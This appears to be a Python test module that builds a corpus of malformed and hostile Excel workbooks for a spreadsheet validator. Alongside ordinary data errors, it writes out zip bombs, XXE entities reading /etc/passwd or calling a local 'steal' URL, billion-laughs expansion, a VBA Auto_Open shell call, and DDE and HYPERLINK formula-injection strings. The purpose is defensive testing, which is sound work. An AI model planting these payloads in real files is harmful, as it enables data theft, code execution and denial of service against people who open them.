"""Broken and hostile card workbooks, each made by one small function (no stored binaries).

Every ``Case`` names a generator that writes its files into an input folder (beside the test
``config.toml``), the exit code ``reportkit validate`` must give, and the (code, file, cell) triples
it must report. Sizes are declared, not written, wherever a case is about size, so the whole
corpus builds in a few seconds and a few MB of disk.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.workbook.defined_name import DefinedName

from builders import DATA, delete_defined_name, put_formula_without_value, put_stored_number, rename_card_sheet, \
    type_into, write_card, write_not_zip, write_old_xls
from reportkit.inputs.config import ReportConfig, load_config
from reportkit.workbook.layout import CARD_SHEET

CARD = "card.xlsx"
SHEET = "xl/worksheets/sheet1.xml"  # openpyxl writes the card sheet (the first sheet) here
MB = 1024 * 1024

Triple = tuple[str, str, str]  # (issue code, file, cell)


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Path, ReportConfig], None]
    exit_code: int
    expected: tuple[Triple, ...] = ()
    bounded: bool = False  # zip bombs and entity bombs: memory must stay small
    folder_name: str = ""  # the input folder's name when the path itself is the point
    skip_reason: str = ""  # why the case cannot run here (e.g. permissions as root)
    check: Callable[[Path], None] | None = None  # extra assertions on what was read
    clean: bool = False  # no issue at all may be reported
    tags: tuple[str, ...] = field(default=())


CASES: list[Case] = []


def case(exit_code: int, *expected: Triple, **options) -> Callable:
    """Register a generator as a Case named after the function."""
    def register(make: Callable[[Path, ReportConfig], None]) -> Callable:
        CASES.append(Case(make.__name__, make, exit_code, tuple(expected), **options))
        return make
    return register


def config() -> ReportConfig:
    return load_config(DATA)


def make_input(case: Case, root: Path) -> Path:
    """An input folder with the test config.toml and the case's files."""
    folder = root / (case.folder_name or case.name)
    folder.mkdir(parents=True)
    shutil.copy(DATA / "config.toml", folder / "config.toml")
    case.make(folder, config())
    return folder


# -- zip surgery ---------------------------------------------------------------------------------

def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info.filename) for info in archive.infolist()}


def write_members(path: Path, parts: dict[str, bytes]) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    Path(path).write_bytes(buffer.getvalue())


def edit_part(path: Path, name: str, edit: Callable[[bytes], bytes]) -> None:
    parts = members(path)
    parts[name] = edit(parts[name])
    write_members(path, parts)


def set_cell_xml(path: Path, address: str, cell_xml: str) -> None:
    """Replace the ``<c r="address">`` element of the card sheet with raw XML."""
    def edit(data: bytes) -> bytes:
        pattern = re.compile(rb'<c r="%s"[^>]*?(/>|>.*?</c>)' % address.encode(), re.S)
        new, count = pattern.subn(lambda _: cell_xml.encode(), data, count=1)
        assert count == 1, address
        return new
    edit_part(path, SHEET, edit)


def add_shared_strings(path: Path, sst_xml: bytes) -> None:
    """Add xl/sharedStrings.xml (openpyxl writes inline strings) with its content type and relationship."""
    parts = members(path)
    parts["xl/sharedStrings.xml"] = sst_xml
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    write_members(path, parts)


def central_directory_entries(data: bytes) -> list[int]:
    """Offsets of the central directory file headers of a zip."""
    return [m.start() for m in re.finditer(rb"PK\x01\x02", data)]


def patch_directory(path: Path, member: str, *, flag_bits: int | None = None, file_size: int | None = None,
                    crc: int | None = None) -> None:
    """Rewrite fields of one member in both its local header and its central directory entry."""
    data = bytearray(Path(path).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(member)
    local = info.header_offset
    central = next(o for o in central_directory_entries(bytes(data))
                   if data[o + 46:o + 46 + struct.unpack_from("<H", data, o + 28)[0]] == member.encode())
    for base, flag_at, crc_at, size_at in ((local, 6, 14, 22), (central, 8, 16, 24)):
        if flag_bits is not None:
            struct.pack_into("<H", data, base + flag_at, struct.unpack_from("<H", data, base + flag_at)[0] | flag_bits)
        if crc is not None:
            struct.pack_into("<I", data, base + crc_at, crc)
        if file_size is not None:
            struct.pack_into("<I", data, base + size_at, file_size)
    Path(path).write_bytes(bytes(data))


def streamed_bomb(path: Path, member: str, megabytes: int, keep: dict[str, bytes] | None = None) -> None:
    """A zip whose ``member`` inflates to ``megabytes`` MB of spaces (written in 1 MB chunks: small and fast)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (keep or {}).items():
            if name != member:
                archive.writestr(name, data)
        with archive.open(member, "w", force_zip64=True) as handle:
            handle.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            chunk = b" " * MB
            for _ in range(megabytes):
                handle.write(chunk)
            handle.write(b"<sheetData/></worksheet>")


def card(folder: Path, cfg: ReportConfig, name: str = CARD, **changes) -> Path:
    return write_card(folder / name, cfg, **changes)


def edit_card(path: Path, edit: Callable) -> Path:
    workbook = load_workbook(path)
    edit(workbook)
    workbook.save(path)
    return path


def as_text(path: Path, address: str, text: str) -> Path:
    """Type text that starts like a formula; Excel keeps it as text (a leading ' or text format)."""
    def edit(workbook):
        cell = workbook[CARD_SHEET][address]
        cell.value = text
        cell.data_type = "s"
        cell.quotePrefix = True
    return edit_card(path, edit)


# -- the file itself -----------------------------------------------------------------------------

@case(1, ("corrupt-file", CARD, ""))
def truncated_zip(folder, cfg):
    path = card(folder, cfg)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@case(1, ("corrupt-file", CARD, ""))
def corrupt_central_directory(folder, cfg):
    path = card(folder, cfg)
    data = bytearray(path.read_bytes())
    for offset in central_directory_entries(bytes(data))[2:5]:
        for index in range(offset, offset + 12):
            data[index] ^= 0xA5
    path.write_bytes(bytes(data))


@case(1, ("corrupt-file", CARD, ""))
def corrupt_member_data(folder, cfg):
    path = card(folder, cfg)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename) + 200
    for index in range(start, start + 64):
        data[index] ^= 0xFF
    path.write_bytes(bytes(data))


@case(1, ("not-xlsx", CARD, ""))
def not_a_zip(folder, cfg):
    write_not_zip(folder / CARD)


@case(1, ("corrupt-file", CARD, ""))
def empty_file(folder, cfg):
    (folder / CARD).write_bytes(b"")


@case(1, ("encrypted", CARD, ""))
def password_protected(folder, cfg):
    """Excel saves an encrypted .xlsx as an OLE2 compound file holding EncryptionInfo/EncryptedPackage."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    body = "EncryptionInfo EncryptedPackage".encode("utf-16-le")
    (folder / CARD).write_bytes(header + b"\x00" * 480 + body + b"\x00" * 3000)


@case(1, ("encrypted", CARD, ""))
def encrypted_zip_member(folder, cfg):
    patch_directory(card(folder, cfg), SHEET, flag_bits=0x1)


@case(1, ("old-xls", "card.xls", ""))
def old_xls(folder, cfg):
    write_old_xls(folder / "card.xls")


@case(1, ("not-xlsx", "card.csv", ""))
def csv_named_card(folder, cfg):
    (folder / "card.csv").write_text("project_id,cost\nP1,100\n", encoding="utf-8")


@case(0, ("macro-workbook", "card.xlsm", ""))
def xlsm_with_vba_project(folder, cfg):
    path = card(folder, cfg, name="card.xlsm")
    parts = members(path)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc\"\nEnd Sub\n"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1)
    write_members(path, parts)


@case(0, ("macro-workbook", CARD, ""))
def vba_project_in_xlsx(folder, cfg):
    path = card(folder, cfg)
    parts = members(path)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    write_members(path, parts)


@case(1, ("too-large", CARD, ""))
def oversized_file(folder, cfg):
    with (folder / CARD).open("wb") as handle:  # sparse: 21 MB on paper, a few bytes on disk
        handle.write(b"PK\x03\x04")
        handle.truncate(21 * MB)


# -- zip bombs: refused from the zip directory, before anything is inflated -----------------------

@case(1, ("too-large", CARD, ""), bounded=True)
def zip_bomb_200mb_of_spaces(folder, cfg):
    keep = members(card(folder, cfg))
    streamed_bomb(folder / CARD, SHEET, 200, keep)


@case(1, ("too-large", CARD, ""), bounded=True)
def zip_bomb_high_ratio(folder, cfg):
    """10 MB of spaces: under the member limit, but a ratio no real sheet has."""
    keep = members(card(folder, cfg))
    streamed_bomb(folder / CARD, "xl/worksheets/sheet3.xml", 10, keep)


@case(1, ("too-large", CARD, ""), bounded=True)
def zip_bomb_declared_4gb(folder, cfg):
    patch_directory(card(folder, cfg), SHEET, file_size=0xFFFFFFF0)


@case(1, ("corrupt-file", CARD, ""), bounded=True)
def zip_bomb_forged_small_size(folder, cfg):
    """The directory claims 2 KB; the data inflates to 64 MB. Only the declared bytes may ever be inflated."""
    keep = members(card(folder, cfg))
    streamed_bomb(folder / CARD, SHEET, 64, keep)
    patch_directory(folder / CARD, SHEET, file_size=2048)


# -- XML that must never be expanded or followed ---------------------------------------------------

XXE = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
       b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
       b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
       b"<si><t>&xxe;</t></si></sst>")

LAUGHS = "".join(f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10))
BILLION_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY lol0 "lol">' + LAUGHS + "]>\n").encode()


@case(1, ("unsafe-xml", CARD, ""), bounded=True)
def xxe_in_shared_strings(folder, cfg):
    path = card(folder, cfg)
    add_shared_strings(path, XXE)
    set_cell_xml(path, "B9", '<c r="B9" t="s"><v>0</v></c>')


@case(1, ("unsafe-xml", CARD, ""), bounded=True)
def xxe_in_sheet(folder, cfg):
    path = card(folder, cfg)
    edit_part(path, SHEET, lambda data: b'<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM '
              b'"http://127.0.0.1:9/steal">]>\n' + data.replace(b"<is><t>", b"<is><t>&xxe;", 1))


@case(1, ("unsafe-xml", CARD, ""), bounded=True)
def external_dtd_in_workbook_xml(folder, cfg):
    edit_part(card(folder, cfg), "xl/workbook.xml",
              lambda data: b'<?xml version="1.0"?>\n<!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/x.dtd">\n' + data)


@case(1, ("unsafe-xml", CARD, ""), bounded=True)
def billion_laughs_in_sheet(folder, cfg):
    path = card(folder, cfg)
    edit_part(path, SHEET, lambda data: BILLION_LAUGHS + data.replace(b"<is><t>", b"<is><t>&lol9;", 1))


@case(1, ("unsafe-xml", CARD, ""), bounded=True)
def billion_laughs_in_content_types(folder, cfg):
    edit_part(card(folder, cfg), "[Content_Types].xml",
              lambda data: BILLION_LAUGHS.replace(b"worksheet", b"Types") + data)


@case(1, ("corrupt-file", CARD, ""))
def shift_jis_bytes_in_utf8_sheet(folder, cfg):
    text = "事業カード".encode("shift_jis")
    edit_part(card(folder, cfg), SHEET,
              lambda data: b'<?xml version="1.0" encoding="UTF-8"?>' + data.replace(b"<is><t>", b"<is><t>" + text, 1))


@case(1, ("corrupt-file", CARD, ""))
def garbage_workbook_part(folder, cfg):
    edit_part(card(folder, cfg), "xl/workbook.xml", lambda data: bytes(range(256)) * 8)


@case(1, ("corrupt-file", CARD, ""))
def missing_workbook_part(folder, cfg):
    path = card(folder, cfg)
    parts = members(path)
    del parts["xl/workbook.xml"]
    write_members(path, parts)


# -- cells -----------------------------------------------------------------------------------------

def _long_text_cut(folder: Path) -> None:
    from reportkit.workbook.reader import MAX_CELL_CHARS, read_workbook

    assert len(read_workbook(folder / CARD).values["description"].value) == MAX_CELL_CHARS


@case(1, ("text-too-long", CARD, "B10"), check=_long_text_cut)
def megabyte_of_text_in_a_cell(folder, cfg):
    """Excel stops at 32,767 characters a cell; a generated file need not."""
    import random

    text = "".join(random.Random(0).choices("あいうえおかきくけこ事業実施結果、。0123456789", k=MB))  # compresses like prose
    set_cell_xml(card(folder, cfg), "B10", '<c r="B10" t="inlineStr"><is><t>' + text + "</t></is></c>")


def _no_control_characters(folder: Path) -> None:
    from reportkit.files.textsafe import has_illegal
    from reportkit.workbook.reader import read_workbook

    raw = read_workbook(folder / CARD)
    assert not has_illegal(raw.values["project_name"].value)
    assert "_x0007_" not in raw.values["project_name"].value


@case(0, ("control-characters", CARD, "B9"), check=_no_control_characters)
def control_characters_in_a_cell(folder, cfg):
    """Excel writes characters XML cannot hold as _xHHHH_ escapes."""
    path = card(folder, cfg)
    edit_part(path, SHEET, lambda data: re.sub(rb'(<c r="B9"[^>]*><is><t[^>]*>)', rb"\1_x0007__x001B_[2J_x0000_",
                                               data, count=1))


@case(0, ("formula-text", CARD, "B9"))
def formula_injection_hyperlink(folder, cfg):
    as_text(card(folder, cfg), "B9", '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")')


@case(0, ("formula-text", CARD, "B10"))
def formula_injection_dde(folder, cfg):
    as_text(card(folder, cfg), "B10", "=cmd|' /C calc'!A0")


@case(0, ("formula-text", CARD, "B91"))
def formula_injection_at_sign(folder, cfg):
    as_text(card(folder, cfg), "B91", "@SUM(1)")


def _cost_is(expected: int) -> Callable[[Path], None]:
    def check(folder: Path) -> None:
        from reportkit.checks.cards import build_card
        from reportkit.workbook.reader import read_workbook

        sourced, _ = build_card(read_workbook(folder / CARD), config())
        assert sourced is not None and sourced.card.cost == expected
    return check


@case(0, clean=True, check=_cost_is(190824))
def formula_with_cached_value(folder, cfg):
    set_cell_xml(card(folder, cfg), "B11", '<c r="B11"><f>86524+104300</f><v>190824</v></c>')


@case(1, ("formula-without-value", CARD, "B11"))
def formula_without_cached_value(folder, cfg):
    put_formula_without_value(card(folder, cfg), "B11", "100+23")


@case(1, ("not-a-number", CARD, "B11"))
def formula_with_error_value(folder, cfg):
    set_cell_xml(card(folder, cfg), "B11", '<c r="B11" t="e"><f>1/0</f><v>#DIV/0!</v></c>')


@case(0, ("merged-input", CARD, "B25"))
def merged_cells_over_input_cells(folder, cfg):
    edit_card(card(folder, cfg), lambda wb: wb[CARD_SHEET].merge_cells("B25:C26"))


# -- a clerk's edits: inserted rows, deleted or broken names --------------------------------------

def insert_rows_like_excel(workbook, at: int, amount: int = 1) -> None:
    """Insert rows on the card sheet and move what Excel moves: cells, merged ranges, defined names."""
    sheet = workbook[CARD_SHEET]
    sheet.insert_rows(at, amount)
    for merged in list(sheet.merged_cells.ranges):
        if merged.min_row >= at:
            merged.shift(row_shift=amount)
        elif merged.max_row >= at:
            merged.expand(down=amount)

    def shift(match: re.Match) -> str:
        row = int(match.group(2))
        return f"${match.group(1)}${row + amount if row >= at else row}"

    for name in list(workbook.defined_names):
        defined = workbook.defined_names[name]
        workbook.defined_names[name] = DefinedName(name, attr_text=re.sub(r"\$([A-Z]+)\$(\d+)", shift,
                                                                          defined.attr_text))


INSERTED = ("うち、新規枠", "3件\n1,000千円", "内訳")


def _inserted_row_read(folder: Path) -> None:
    from reportkit.checks.cards import build_card
    from reportkit.workbook.reader import read_workbook

    raw = read_workbook(folder / CARD)
    assert raw.values["department"].cell == "B91" and raw.values["department"].value == "商工政策課"
    rows = raw.blocks["progress_rows"]
    assert [v.value for v in rows[1].cells] == list(INSERTED) and rows[1].address == "B17"
    assert rows[-1].cells[0].value == "計" and rows[-1].address == "B22"
    sourced, _ = build_card(raw, config())
    assert sourced is not None and len(sourced.card.progress.rows) == 7


@case(0, clean=True, check=_inserted_row_read)
def rows_inserted_inside_results_table(folder, cfg):
    def edit(workbook):
        insert_rows_like_excel(workbook, 17)
        sheet = workbook[CARD_SHEET]
        for column, value in zip("BCD", INSERTED):
            sheet[f"{column}17"] = value
    edit_card(card(folder, cfg), edit)


@case(1, ("missing-name", CARD, ""))
def deleted_defined_name(folder, cfg):
    delete_defined_name(card(folder, cfg), "cost")


def _set_name(path: Path, name: str, target: str) -> None:
    def edit(workbook):
        workbook.defined_names[name] = DefinedName(name, attr_text=target)
    edit_card(path, edit)


@case(1, ("broken-name", CARD, ""))
def defined_name_pointing_at_ref_error(folder, cfg):
    _set_name(card(folder, cfg), "cost", f"'{CARD_SHEET}'!#REF!")


@case(1, ("broken-name", CARD, ""))
def defined_name_pointing_to_another_sheet(folder, cfg):
    _set_name(card(folder, cfg), "cost", "'記入要領'!$B$11")


@case(1, ("broken-name", CARD, ""), bounded=True)
def defined_name_over_a_million_rows(folder, cfg):
    _set_name(card(folder, cfg), "progress_rows", f"'{CARD_SHEET}'!$B$16:$D$1048576")


@case(1, ("broken-name", CARD, ""))
def defined_name_with_two_areas(folder, cfg):
    _set_name(card(folder, cfg), "cost", f"'{CARD_SHEET}'!$B$11,'{CARD_SHEET}'!$B$12")


@case(0, ("hidden-content", CARD, "B12"))
def hidden_row_with_content(folder, cfg):
    edit_card(card(folder, cfg), lambda wb: setattr(wb[CARD_SHEET].row_dimensions[12], "hidden", True))


@case(0, ("hidden-content", CARD, "E52"))
def hidden_column_with_content(folder, cfg):
    edit_card(card(folder, cfg), lambda wb: setattr(wb[CARD_SHEET].column_dimensions["E"], "hidden", True))


@case(0, ("unmapped-content", CARD, "J5"))
def hidden_column_with_margin_note(folder, cfg):
    def edit(workbook):
        workbook[CARD_SHEET]["J5"] = "課長確認済み（非表示）"
        workbook[CARD_SHEET].column_dimensions["J"].hidden = True
    edit_card(card(folder, cfg), edit)


@case(1, ("duplicate-project-id", "a.xlsx", "B4"), ("duplicate-project-id", "b.xlsx", "B4"))
def one_project_in_two_files(folder, cfg):
    card(folder, cfg, name="a.xlsx", project_id="P-DUP")
    card(folder, cfg, name="b.xlsx", project_id="P-DUP", project_name="中小企業経営安定化資金（写し）")


@case(1, ("missing-card-sheet", CARD, ""))
def card_sheet_renamed(folder, cfg):
    rename_card_sheet(card(folder, cfg), "Sheet1")


@case(1, ("duplicate-card-sheet", CARD, ""))
def two_sheets_named_card(folder, cfg):
    edit_part(card(folder, cfg), "xl/workbook.xml",
              lambda data: data.replace('name="記入要領"'.encode(), f'name="{CARD_SHEET}"'.encode()))


@case(0, clean=True)
def sheet_names_differing_only_in_case(folder, cfg):
    edit_part(card(folder, cfg), "xl/workbook.xml",
              lambda data: data.replace('name="選択肢"'.encode(), b'name="Notes"')
              .replace('name="記入要領"'.encode(), b'name="NOTES"'))


# -- values a clerk types ----------------------------------------------------------------------------

@case(1, ("date-for-year", CARD, "B5"))
def date_typed_as_fiscal_year(folder, cfg):
    type_into(card(folder, cfg), "B5", datetime(2013, 4, 1))


@case(1, ("date-for-year", CARD, "B97"))
def date_typed_as_period_start(folder, cfg):
    type_into(card(folder, cfg), "B97", datetime(1969, 4, 1))


@case(1, ("negative-amount", CARD, "B11"))
def negative_cost(folder, cfg):
    type_into(card(folder, cfg), "B11", -500)


@case(1, ("fractional-amount", CARD, "B11"))
def fractional_cost(folder, cfg):
    type_into(card(folder, cfg), "B11", 123.5)


@case(0, clean=True, check=_cost_is(1237))
def number_stored_as_text(folder, cfg):
    as_text(card(folder, cfg, cost_note=None), "B11", "1,237")  # typed as '1,237


@case(1, ("negative-amount", CARD, "B11"))
def full_width_minus_cost(folder, cfg):
    card(folder, cfg, cost="－１２３")


def _unusable_only(address: str) -> Callable[[Path], None]:
    """The unusable number is the one problem said at its cell (not also 未入力 or 数値でない), by every check
    of the card (the reader, the card, the rules)."""
    def check(folder: Path) -> None:
        from reportkit.checks.validate import validate_card_file

        _, issues = validate_card_file(folder / CARD, config(), cache=False)
        assert [i.code for i in issues if i.cell == address] == ["unusable-number"], \
            [(i.code, i.message) for i in issues if i.cell == address]
    return check


@case(1, ("unusable-number", CARD, "B11"), check=_unusable_only("B11"))
def infinite_cost(folder, cfg):
    put_stored_number(card(folder, cfg), "B11", "1e999")  # what Python's float overflow reads as inf


@case(1, ("unusable-number", CARD, "B5"), check=_unusable_only("B5"))
def minus_infinite_fiscal_year(folder, cfg):
    put_stored_number(card(folder, cfg), "B5", "-1e999")


@case(1, ("unusable-number", CARD, "B7"), check=_unusable_only("B7"))
def nan_as_policy(folder, cfg):
    put_stored_number(card(folder, cfg), "B7", "NaN")


@case(1, ("unusable-number", CARD, "B97"), check=_unusable_only("B97"))
def infinity_spelled_out_as_period_start(folder, cfg):
    put_stored_number(card(folder, cfg), "B97", "Infinity")


@case(1, ("unusable-number", CARD, "C16"), check=_unusable_only("C16"))
def absurd_magnitude_in_a_results_value(folder, cfg):
    put_stored_number(card(folder, cfg), "C16", "1e300")


@case(1, ("unusable-number", CARD, "B78"), check=_unusable_only("B78"))
def five_thousand_digits_as_a_history_year(folder, cfg):
    put_stored_number(card(folder, cfg), "B78", "9" * 5000)  # more digits than Python turns into an int


@case(1, ("unusable-number", CARD, "B105"), check=_unusable_only("B105"))
def infinite_reprint_policy(folder, cfg):
    put_stored_number(card(folder, cfg), "B105", "1e999")


@case(1, ("unusable-number", CARD, "D51"), check=_unusable_only("D51"))
def fifteen_digits_in_free_results(folder, cfg):
    put_stored_number(card(folder, cfg), "D51", "1000000000000000")  # 10^15: past Excel's 15 significant digits


# -- folders ------------------------------------------------------------------------------------------

@case(2, clean=True)
def empty_folder(folder, cfg):
    pass


@case(2, clean=True)
def only_lock_and_hidden_files(folder, cfg):
    (folder / "~$card.xlsx").write_bytes(b"\x0bclerk".ljust(165, b"\x00"))
    (folder / ".card.xlsx").write_bytes(b"PK\x05\x06" + b"\x00" * 18)
    (folder / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")


@case(0, clean=True)
def lock_file_beside_a_card(folder, cfg):
    card(folder, cfg)
    (folder / "~$card.xlsx").write_bytes(b"\x0bclerk".ljust(165, b"\x00"))


@case(1, ("ods-workbook", "商工政策課/card.ods", ""), ("not-a-card-file", "商工政策課/memo.txt", ""))
def ods_and_memo_in_a_subfolder(folder, cfg):
    card(folder, cfg)
    (folder / "商工政策課").mkdir()
    shutil.copy(folder / CARD, folder / "商工政策課" / "card.ods")
    (folder / "商工政策課" / "memo.txt").write_text("提出済み", encoding="utf-8")


@case(1, ("negative-amount", "地域産業課/金融/card.xlsx", "B11"))
def card_two_folders_deep(folder, cfg):
    card(folder / "地域産業課" / "金融", cfg, cost=-5)


@case(0, clean=True)
def temporary_and_system_files_beside_cards(folder, cfg):
    card(folder, cfg)
    for name in ("~WRL0001.tmp", "card.xlsx.tmp", "5C7A1E0B", "Thumbs.db", "desktop.ini"):
        (folder / name).write_bytes(b"\x00junk")
    (folder / ".hidden").mkdir()
    (folder / ".hidden" / "old.xlsx").write_bytes(b"junk")


def _can_lock_out() -> str:
    if os.name == "nt":
        return "no POSIX permissions on Windows"
    if os.geteuid() == 0:
        return "root reads any file (see directory_named_like_a_workbook and broken_symlink)"
    return ""


@case(1, ("unreadable-file", CARD, ""), skip_reason=_can_lock_out())
def unreadable_file(folder, cfg):
    os.chmod(card(folder, cfg), 0)


@case(1, ("unreadable-file", "x.xlsx", ""))
def directory_named_like_a_workbook(folder, cfg):
    (folder / "x.xlsx").mkdir()


@case(1, ("unreadable-file", "link.xlsx", ""), skip_reason="symlinks need privileges on Windows" if os.name == "nt" else "")
def broken_symlink(folder, cfg):
    (folder / "link.xlsx").symlink_to(folder / "moved-away.xlsx")


JAPANESE_NAME = "事業 カード（商工　政策課）.xlsx"


@case(1, ("negative-amount", JAPANESE_NAME, "B11"), folder_name="令和 7年度　入力 フォルダ")
def japanese_path_with_spaces(folder, cfg):
    card(folder, cfg, name=JAPANESE_NAME, cost=-1)


# -- things a workbook carries that are not read ----------------------------------------------------

EXTERNAL_LINK = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
                 b'<sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0">'
                 b'<row r="1"><cell r="A1"><v>999</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>')


@case(0, ("external-link", CARD, ""))
def external_links(folder, cfg):
    path = card(folder, cfg)
    parts = members(path)
    parts["xl/externalLinks/externalLink1.xml"] = EXTERNAL_LINK
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file:///\\\\server\\share\\secret.xlsx" TargetMode="External"/>'
        b"</Relationships>")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"<definedNames>", b'<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships" r:id="rIdExt1"/></externalReferences><definedNames>')
    write_members(path, parts)
    set_cell_xml(path, "B11", '<c r="B11"><f>[1]Sheet1!$A$1</f><v>190824</v></c>')


@case(0, ("unmapped-content", CARD, "A1001"), ("unmapped-content-more", CARD, "A1021"))
def ten_thousand_junk_rows_below_the_card(folder, cfg):
    def edit(workbook):
        sheet = workbook[CARD_SHEET]
        for row in range(1001, 11001):
            sheet.cell(row, 1, f"貼り付けの残り{row}")
    edit_card(card(folder, cfg), edit)


@case(0, ("drawing-ignored", CARD, ""))
def picture_on_the_card_sheet(folder, cfg):
    from openpyxl.drawing.image import Image
    from PIL import Image as PILImage

    buffer = io.BytesIO()
    PILImage.new("RGB", (8, 8), "red").save(buffer, "PNG")
    edit_card(card(folder, cfg), lambda wb: wb[CARD_SHEET].add_image(Image(buffer), "E3"))


HUGE_SST_COUNT = 60_000  # ~2.4 MB of XML; openpyxl holds it all in memory


def _huge_sst_read(folder: Path) -> None:
    from reportkit.workbook.reader import read_workbook

    assert read_workbook(folder / CARD).values["group"].value == f"グループ{HUGE_SST_COUNT - 1:06d}"


@case(0, clean=True, check=_huge_sst_read)
def huge_shared_strings_table(folder, cfg):
    items = b"".join(f"<si><t>グループ{i:06d}</t></si>".encode() for i in range(HUGE_SST_COUNT))
    path = card(folder, cfg)
    add_shared_strings(path, b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" '
                             b'uniqueCount="%d">' % (HUGE_SST_COUNT, HUGE_SST_COUNT) + items + b"</sst>")
    set_cell_xml(path, "B91", f'<c r="B91" t="s"><v>{HUGE_SST_COUNT - 1}</v></c>')


AMPLIFIED_NAMES = ("progress_rows", "outcome_rows", "results_free", "history_rows")
AMPLIFIED_ROWS = 3_333  # × 3 columns: 9,999 cells a name, just under MAX_NAME_CELLS


def write_amplified(path: Path, cfg: ReportConfig, chars: int = 2_000) -> Path:
    """A small card whose one shared string of ``chars`` 「長」 is referenced by every cell of four block
    names stretched to just under 10,000 cells each (issue 28: 67 KB that expanded to 587 MB)."""
    write_card(path, cfg)
    first_row = 2001
    columns = [("A", "B", "C"), ("E", "F", "G"), ("I", "J", "K"), ("M", "N", "O")]

    def rename(workbook):
        for name, (left, _, right) in zip(AMPLIFIED_NAMES, columns):
            workbook.defined_names[name] = DefinedName(
                name, attr_text=f"'{CARD_SHEET}'!${left}${first_row}:${right}${first_row + AMPLIFIED_ROWS - 1}")
    edit_card(path, rename)
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}" t="s"><v>0</v></c>' for group in columns for c in group)
                   + "</row>" for r in range(first_row, first_row + AMPLIFIED_ROWS))
    edit_part(path, SHEET, lambda data: data.replace(b"</sheetData>", rows.encode() + b"</sheetData>"))
    add_shared_strings(path, b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                             b'uniqueCount="1"><si><t>' + ("長" * chars).encode() + b"</t></si></sst>")
    return path


@case(1, ("too-large", CARD, ""), bounded=True, tags=("counted-while-read",))  # refused as the sheet is read
def one_long_shared_string_in_every_block_cell(folder, cfg):
    write_amplified(folder / CARD, cfg)


def cases() -> list[Case]:
    return list(CASES)
